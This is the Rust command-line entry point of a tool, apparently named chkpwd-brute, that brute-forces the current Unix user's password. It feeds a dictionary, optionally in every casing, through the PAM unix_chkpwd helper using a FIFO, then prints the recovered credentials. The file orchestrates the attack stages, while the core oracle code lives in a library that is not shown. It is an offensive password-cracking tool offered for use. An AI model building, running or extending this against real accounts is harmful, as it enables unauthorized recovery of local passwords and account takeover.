/*!
 * chkpwd-brute command line front end
 *
 * Runs the stages of a dictionary attack against the current user's
 * password through the PAM `unix_chkpwd` helper:
 * - Locate the helper
 * - Load the dictionary
 * - Install the FIFO
 * - Try every entry (optionally every casing of it)
 */

mod cli;

use std::path::Path;
use std::process::ExitCode;

use anyhow::Result;
use clap::Parser;
use colored::*;

use chkpwd_brute::console::{print_error, print_extra, print_success, ConsoleSink};
use chkpwd_brute::{
    current_username, locate_helper, verify_helper, AttackController, AttackOutcome,
    AttackSummary, CancelToken, ChkpwdOracle, Conduit, Dictionary, Reporter, HELPER_NAME,
};

fn init_logging(verbose: bool) {
    let default_level = if verbose { "debug" } else { "warn" };
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or(default_level))
        .format_timestamp(None)
        .init();
}

fn file_name(path: &Path) -> String {
    path.file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_else(|| path.display().to_string())
}

fn run(
    args: &cli::Args,
    reporter: &mut Reporter<ConsoleSink>,
    cancel: &CancelToken,
) -> Result<AttackSummary> {
    let stage = reporter.stage("Parsing arguments");
    let config = args.to_config()?;
    stage.succeed();
    print_extra(&format!(
        "Using dictionary: \"{}\"",
        file_name(&config.dictionary)
    ));
    print_extra(&format!("Casing mode: \"{}\"", config.casing.label()));

    cancel.check()?;
    let stage = reporter.stage(&format!("Finding the \"{}\" utility", HELPER_NAME));
    let helper = match &config.helper {
        Some(path) => verify_helper(path)?,
        None => locate_helper()?,
    };
    stage.succeed();
    print_extra(&format!("Found path: \"{}\"", helper.display()));
    log::info!("Using helper {}", helper.display());

    cancel.check()?;
    let stage = reporter.stage("Reading dictionary");
    let dictionary = Dictionary::load(&config.dictionary)?;
    stage.succeed();
    print_extra(&format!("Read entries: \"{}\"", dictionary.len()));
    if dictionary.skipped() > 0 {
        print_extra(&format!(
            "Skipped non UTF-8 lines: \"{}\"",
            dictionary.skipped()
        ));
    }

    cancel.check()?;
    let stage = reporter.stage("Getting username");
    let username = current_username()?;
    stage.succeed();
    print_extra(&format!("Got username: \"{}\"", username));

    cancel.check()?;
    let stage = reporter.stage("Installing pipe");
    let mut conduit = Conduit::create(config.fifo_mode)?;
    stage.succeed();
    print_extra(&format!("Pipe installed at: \"{}\"", conduit.path().display()));
    log::info!("FIFO at {}", conduit.path().display());

    cancel.check()?;
    let summary = {
        let oracle = ChkpwdOracle::new(helper, &conduit);
        AttackController::new(oracle, username, config.casing)
            .with_cancel_token(cancel.clone())
            .run(dictionary.entries(), reporter)
    };

    // Gone before anything about the outcome is printed
    conduit.destroy();

    Ok(summary)
}

fn report(summary: AttackSummary) -> ExitCode {
    let stats = format!(
        "Attempts: \"{}\" over \"{}\" entries\nElapsed: \"{:.2}s\" (\"{:.0}\" attempts/s)",
        summary.attempts,
        summary.entries_processed,
        summary.elapsed.as_secs_f64(),
        summary.attempts_per_second()
    );

    match summary.outcome {
        AttackOutcome::Success { username, password } => {
            log::info!("Recovered password for {}", username);
            print_extra(&format!(
                "Got credentials!\nUser: \"{}\"\nPassword: \"{}\"",
                username, password
            ));
            print_extra(&stats);
            print_success();
            ExitCode::SUCCESS
        }
        AttackOutcome::Exhausted => {
            print_extra(&stats);
            print_error("Dictionary exhausted");
            ExitCode::FAILURE
        }
        AttackOutcome::Aborted(err) => {
            print_extra(&stats);
            print_error(&err.to_string());
            ExitCode::FAILURE
        }
    }
}

fn main() -> ExitCode {
    let args = cli::Args::parse();
    init_logging(args.verbose);

    println!(
        "\n{}\n",
        format!("chkpwd-brute v{}", env!("CARGO_PKG_VERSION")).bold()
    );

    let cancel = CancelToken::new();
    let handler_token = cancel.clone();
    if let Err(e) = ctrlc::set_handler(move || handler_token.cancel()) {
        log::warn!("Failed to install Ctrl+C handler: {}", e);
    }

    let mut reporter = Reporter::new(ConsoleSink::new());
    match run(&args, &mut reporter, &cancel) {
        Ok(summary) => report(summary),
        Err(e) => {
            print_error(&format!("{:#}", e));
            ExitCode::FAILURE
        }
    }
}
